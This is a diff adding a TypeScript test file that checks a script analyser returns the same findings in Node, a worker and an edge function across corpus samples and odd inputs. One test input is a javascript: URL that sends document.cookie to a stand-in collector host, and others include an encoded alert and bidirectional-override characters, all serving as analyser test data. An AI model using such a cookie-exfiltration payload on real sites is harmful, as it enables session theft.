@@ -1,0 +1,69 @@
+import { mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
+import { analysisResult } from "@scriptorium/shared-protocol/hub-edge/analysis-result";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import * as z from "zod";
+import { loadCorpus } from "../../corpus/load-corpus.ts";
+import type { Half } from "../../corpus/sample.ts";
+import { startEdgeAnalyser } from "./edge-analyser.ts";
+import type { RunningAnalyser } from "./running-analyser.ts";
+import { startWorkerAnalyser } from "./worker-analyser.ts";
+
+/** What no corpus has: texts that end in 'Not rated', an address, and signs outside of ASCII. */
+const ODDITIES = [
+	"let = (",
+	"javascript:void(fetch('https://collector.example/?'+encodeURIComponent(document.cookie)))",
+	"javascript:%61%6c%65%72%74(1)",
+	"// \u202e\u2066 alert\nalert('日本語 🙂 \\ud800');",
+	`${"(".repeat(20_000)}1${")".repeat(20_000)}`,
+];
+
+/** As it crosses a wire. */
+const asJson = (value: unknown): unknown => JSON.parse(JSON.stringify(value));
+
+describe("the same script has the same findings in Node, in the hub's worker and in the edge function", () => {
+	const folder = mkdtempSync(join(tmpdir(), "scriptorium-analyser-"));
+	const places = new Map<string, RunningAnalyser>();
+
+	beforeAll(async () => {
+		places.set("the edge function", await startEdgeAnalyser(folder));
+		places.set("the hub's worker", await startWorkerAnalyser(join(folder, "builder")));
+	}, 240_000);
+	afterAll(async () => {
+		for (const place of places.values()) await place.stop();
+		rmSync(folder, { recursive: true, force: true });
+	});
+
+	/** Names what differs, and not how: the sealed half stays unread. */
+	async function differences(samples: readonly { readonly file: string; readonly code: string }[]): Promise<string[]> {
+		const found: string[] = [];
+		for (const { file, code } of samples) {
+			const expected = asJson(analyzeScript({ code }));
+			if (!z.safeParse(analysisResult, expected).success) found.push(`${file}: no result in Node`);
+			for (const [name, place] of places) {
+				try {
+					expect(asJson(await place.analyse(code))).toEqual(expected);
+				} catch {
+					found.push(`${file}: ${name} answers something else`);
+				}
+			}
+		}
+		return found;
+	}
+
+	it.each<Half>(["develop", "sealed", "seeds"])(
+		"on every sample of %s",
+		async (half) => {
+			const samples = loadCorpus(half);
+			expect(samples.length).toBeGreaterThan(10);
+			expect(await differences(samples)).toEqual([]);
+		},
+		300_000,
+	);
+
+	it("on what cannot be rated, too", async () => {
+		expect(await differences(ODDITIES.map((code) => ({ file: JSON.stringify(code.slice(0, 60)), code })))).toEqual([]);
+	});
+});
